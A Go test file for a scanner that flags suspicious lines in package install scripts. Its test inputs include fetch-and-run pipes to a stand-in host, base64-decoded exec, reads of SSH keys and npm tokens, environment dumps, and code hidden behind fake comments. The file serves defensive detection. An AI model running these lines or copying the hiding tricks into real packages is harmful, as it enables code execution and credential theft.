package suspect_test

import (
	"strings"
	"testing"

	"github.com/cofferdam-dev/cofferdam/internal/packages/ecosystem/suspect"
)

func linesOf(file, text string) string {
	var r suspect.Reader
	return strings.Join(r.Lines(file, []byte(text)), "\n")
}

// TestLines: each kind of line is told with its number and what it does, and plain ones are not.
func TestLines(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"curl -s https://x.example/a | sh":                             "runs what it downloads",
		"wget -qO- x.example|sudo /bin/bash -s":                        "runs what it downloads",
		`bash -c "$(curl -fsSL x.example)"`:                            "runs what it downloads",
		"exec(__import__('base64').b64decode('aW1wb3J0'))":             "runs text that it decodes",
		"eval(Buffer.from('aa','hex').toString())":                     "runs text that it decodes",
		"echo aGk= | base64 -d | sh":                                   "runs text that it decodes",
		"key = open(os.path.expanduser('~/.ssh/id_rsa')).read()":       "names where keys and passwords are",
		"t = process.env.NPM_TOKEN":                                    "names where keys and passwords are",
		"data = dict(os.environ)":                                      "takes all variables of the environment",
		"body = JSON.stringify(process.env)":                           "takes all variables of the environment",
		"urllib.request.urlopen(url, data)":                            "uses the network",
		"const https = require('https')":                               "uses the network",
		"subprocess.check_call(['make'])":                              "runs programs",
		"os.system('make')":                                            "runs programs",
		"require('child_process').execSync('x')":                       "runs programs",
		"exec(open('version.py').read())":                              "runs text as code",
		"new Function(code)()":                                         "runs text as code",
		"code = zlib.decompress(data)":                                 "decodes text",
		"x = '\\x68\\x65\\x6c\\x6c\\x6f\\x20\\x77\\x6f\\x72\\x6c'":     "decodes text",
		"a = 1 \u202e # b":                                             "has characters that are not seen",
		"x = '" + strings.Repeat("y", 2_000) + "'":                     "is 2006 bytes long",
		"# -*- coding: rot13 -*-":                                      "has an encoding of its own, rot13",
		"# -*- coding: utf-8 -*-":                                      "",
		"from setuptools import setup, find_packages":                  "",
		"# requests.post is not used, nor subprocess":                  "",
		"re.compile('x').exec_()":                                      "",
		"setup(name='foo', url='https://home.example', license='MIT')": "",
	} {
		got := linesOf("setup.py", text+"\n")
		if want == "" && got != "" || !strings.Contains(got, want) || want != "" && !strings.HasPrefix(got, "setup.py:1 ") {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// TestAMemberIsNoComment: a line of JavaScript that begins with a number sign runs.
func TestAMemberIsNoComment(t *testing.T) {
	t.Parallel()
	if got := linesOf("install.js", "class A {\n#run = require('child_process').execSync('id')\n}\n"); !strings.Contains(got, "install.js:2 runs programs") {
		t.Errorf("%q", got)
	}
}

// TestWhatOnlyLooksLikeAComment: a line of Python that begins with a number sign runs where the sign is in a text that
// the line ends, or where the line is two.
func TestWhatOnlyLooksLikeAComment(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"# a\rimport os; os.system('x')\n":         "setup.py:2 runs programs",
		"'''\n# '''; import os; os.system(y)\n":    "setup.py:2 runs programs",
		"x = 'a\\\n# '; import os; os.system(y)\n": "setup.py:2 runs programs",
		"# a\x0cimport os; os.system(y)\n":         "setup.py:1 runs programs",
		"# a\u2028import os; os.system(y)\n":       "setup.py:1 runs programs",
		"f\"\"\"\n# {os.system(c)}\n\"\"\"\n":      "setup.py:2 runs programs",
		"# os.system is not used\r\n":              "",
	} {
		if got := linesOf("setup.py", text); !strings.Contains(got, want) || want == "" && got != "" {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// TestTheWorstIsFirst: and what is not told is counted.
func TestTheWorstIsFirst(t *testing.T) {
	t.Parallel()
	lines := strings.Split(linesOf("setup.py", strings.Repeat("import subprocess\n", 100)+"open('/root/.ssh/id_rsa')\n"), "\n")
	if len(lines) != 9 || !strings.HasPrefix(lines[0], "setup.py:101 names where keys") || lines[8] != "setup.py has 93 more such lines" {
		t.Errorf("%q", lines)
	}
}

// TestHowMuchIsLookedAt: what was not looked at is told, of one text and of all of a release.
func TestHowMuchIsLookedAt(t *testing.T) {
	t.Parallel()
	var r suspect.Reader
	big := []byte(strings.Repeat("x = 1\n", suspect.MaxText/6+2_000))
	for i := range 5 {
		got := r.Lines("a.py", big)
		if len(got) != 1 || !strings.HasPrefix(got[0], "a.py was looked at for its first ") {
			t.Errorf("%d: %q", i, got)
		}
	}
	if got := r.Lines("last.py", []byte("import subprocess\n")); len(got) != 1 || got[0] != "last.py was looked at for its first 0 bytes alone" {
		t.Errorf("%q", got)
	}
	if got := linesOf(strings.Repeat("n", 5_000), "import subprocess \xff"+strings.Repeat("q", 900)+"\n"); len(got) > 420 {
		t.Errorf("%d bytes", len(got))
	}
}
